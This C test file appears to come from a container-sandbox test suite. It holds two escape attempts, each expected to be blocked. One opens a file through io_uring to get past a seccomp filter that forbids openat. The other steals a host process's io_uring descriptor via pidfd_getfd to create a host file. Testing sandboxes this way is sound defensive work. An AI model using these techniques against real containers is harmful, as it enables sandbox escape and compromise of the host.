// SPDX-License-Identifier: GPL-2.0-only
/*
 * A ring opens, reads and connects without the system calls of those names: a
 * seccomp filter that forbids them doesn't hear of it. And a ring is a way
 * into the process that made it: whoever gets its descriptor maps the queue,
 * and the maker's own kernel thread does as it is told. "Learnings from kCTF
 * VRP's 42 Linux kernel exploits submissions", Google, 2023; moby refuses
 * io_uring in its default seccomp profile since 2023.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>

#include "escape.h"
#include "tap.h"

#define RING_FD	98

/* In the host's program, whose memory the ring's thread reads. */
static const char target[] = OWNED;

static pid_t service;

static void __attribute__((noreturn)) serve(int out)
{
	struct io_uring_params p = {
		.flags = IORING_SETUP_SQPOLL, .sq_thread_idle = 100,
	};
	int ring = syscall(SYS_io_uring_setup, 4, &p);

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (dup2(ring, RING_FD) != RING_FD || write(out, &p, sizeof(p)) != sizeof(p))
		_exit(1);
	for (;;)
		pause();
}

/* The offsets within a ring are the same in each: the attacker knows them. */
static void start_service(struct args *a)
{
	int fds[2];

	if (pipe2(fds, O_CLOEXEC))
		bail("pipe: %m");
	service = fork();
	if (!service)
		serve(fds[1]);
	close(fds[1]);
	if (read(fds[0], a->path, sizeof(struct io_uring_params)) <= 0)
		bail("start a service with a ring: %m");
	close(fds[0]);
	a->n[0] = service;
}

static void stop_service(void)
{
	kill(service, SIGKILL);
	waitpid(service, NULL, 0);
}

/* Queue the opening of a file. Return: 0 or an errno. */
static int queue(int ring, const struct io_uring_params *p, const char *path,
		 int flags)
{
	char *sq = mmap(NULL, p->sq_off.array + p->sq_entries * 4,
			PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqe = mmap(NULL, p->sq_entries * sizeof(*sqe),
					PROT_READ | PROT_WRITE, MAP_SHARED, ring,
					IORING_OFF_SQES);
	uint32_t *tail;

	if (sq == MAP_FAILED || sqe == MAP_FAILED)
		return errno;
	*sqe = (struct io_uring_sqe){
		.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
		.addr = (uintptr_t)path, .len = 0644, .open_flags = flags,
	};
	*(uint32_t *)(sq + p->sq_off.array) = 0;
	tail = (uint32_t *)(sq + p->sq_off.tail);
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	return 0;
}

/* What became of it. Return: a descriptor or a negative errno. */
static int result(int ring, const struct io_uring_params *p)
{
	char *cq = mmap(NULL, p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe),
			PROT_READ, MAP_SHARED, ring, IORING_OFF_CQ_RING);

	return cq == MAP_FAILED ? -errno :
	       ((struct io_uring_cqe *)(cq + p->cq_off.cqes))->res;
}

static int by_hosts_ring(const struct args *a)
{
	int pidfd = syscall(SYS_pidfd_open, a->n[0], 0), ring, error;
	struct io_uring_params p;

	memcpy(&p, a->path, sizeof(p));
	ring = syscall(SYS_pidfd_getfd, pidfd, RING_FD, 0);
	if (ring < 0)
		return errno;
	error = queue(ring, &p, target, O_CREAT | O_WRONLY);
	if (error)
		return error;
	return syscall(SYS_io_uring_enter, ring, 0, 0, IORING_ENTER_SQ_WAKEUP,
		       NULL, 0) < 0 ? errno : 0;
}

static int forbid_open(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	const struct sock_fprog filter = { ARRAY_SIZE(code), code };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter))
		return errno;
	return syscall(SYS_openat, AT_FDCWD, "/helper", O_RDONLY) < 0 ? 0 : EIO;
}

static int past_seccomp(const struct args *a)
{
	struct io_uring_params p = { 0 };
	int error = forbid_open(), ring;

	(void)a;
	if (error)
		return error;
	ring = syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0)
		return errno;
	error = queue(ring, &p, "/helper", O_RDONLY);
	if (error)
		return error;
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL,
		    0) < 0)
		return errno;
	error = result(ring, &p);
	return error < 0 ? -error : 0;
}

const struct escape io_uring_ring[] = {
	{ "past seccomp by a ring", { 0 }, .attempt = past_seccomp,
	  .error = EPERM, .act = BULKHEAD_ACT_IO_URING, .rule = "preset io-uring" },
	{ "into the host by the ring of a host's process",
	  { .caps = CAP(CAP_SYS_PTRACE), .host_pid = true }, start_service,
	  .attempt = by_hosts_ring, .escaped = owned, .restore = stop_service,
	  .error = EPERM, .act = BULKHEAD_ACT_PTRACE, .rule = "preset ptrace" },
	{ NULL }
};
